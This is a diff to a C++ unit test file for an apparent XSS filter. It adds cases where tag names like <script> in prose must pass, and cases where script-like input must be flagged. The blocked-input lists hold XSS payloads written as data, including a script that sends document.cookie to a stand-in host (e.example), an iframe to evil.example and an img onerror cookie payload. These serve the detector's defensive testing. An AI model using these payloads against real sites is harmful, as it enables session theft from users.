@@ -320,7 +320,9 @@ TEST(XssTagMention, BareTagFollowedByProseIsAllowed) {
                         "Fix XSS in comments (sanitize <script> tags) and SQLi", "<script> tags",
                         "strip <iframe> elements.",
                         // A script cannot open with a binary operator word.
-                        "fix: escape <script> in templates; drop table of contents"}) {
+                        "fix: escape <script> in templates; drop table of contents",
+                        // English contractions glue a name to a string: a syntax error too.
+                        "<script> doesn't load in IE", "<iframe> isn't allowed here"}) {
     EXPECT_FALSE(Flagged(InspectQueryValue(v))) << v;
   }
 }
@@ -328,13 +330,30 @@ TEST(XssTagMention, BareTagFollowedByProseIsAllowed) {
 TEST(XssTagMention, BareTagFollowedByCodeIsBlocked) {
   for (const char* v :
        {"<script>alert(1)", "<script>var a = document.cookie", "<script>x in y</script>",
-        "\"><script> in x;alert(1)</script>", "<script> tags;alert(1)", "<script> tags:alert(1)",
-        "<script> tags\nalert(1)", "<script>",
+        "\"><script> in x;alert(1)</script>", "<script>doesn't=1;alert(1)</script>",
+        "<script> tags;alert(1)", "<script> tags:alert(1)", "<script> tags\nalert(1)", "<script>",
         "<script>new Image().src='//e.example/'+document.cookie</script>",
         "<iframe src=\"https://evil.example/\"> look here"}) {
     Verdict r = InspectQueryValue(v);
     EXPECT_TRUE(Flagged(r)) << v;
     EXPECT_TRUE(HasCategory(r, Category::kXss)) << v;
+  }
+}
+
+// document.cookie and its kind named in a sentence (four words before, a space before it and
+// a space or a sentence's punctuation after) are prose about the property; alone, or with an
+// operator, a bracket or a quote next to it, they are script.
+TEST(XssDomAccess, APropertyNamedInASentenceIsProse) {
+  for (const char* v : {"Is it safe to store JWT in localStorage or document.cookie?",
+                        "please never paste your document.cookie here"}) {
+    Verdict r = testing::InspectAsJson(v);
+    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
+  }
+  for (const char* v :
+       {"document.cookie", "x'+document.cookie+'", "we read document.cookie; then it",
+        "\"><img src=x onerror=alert(document.cookie)>"}) {
+    Verdict r = testing::InspectAsJson(v);
+    EXPECT_TRUE(HasCategory(r, Category::kXss) && Flagged(r)) << v << " -> " << r.explanation;
   }
 }
 
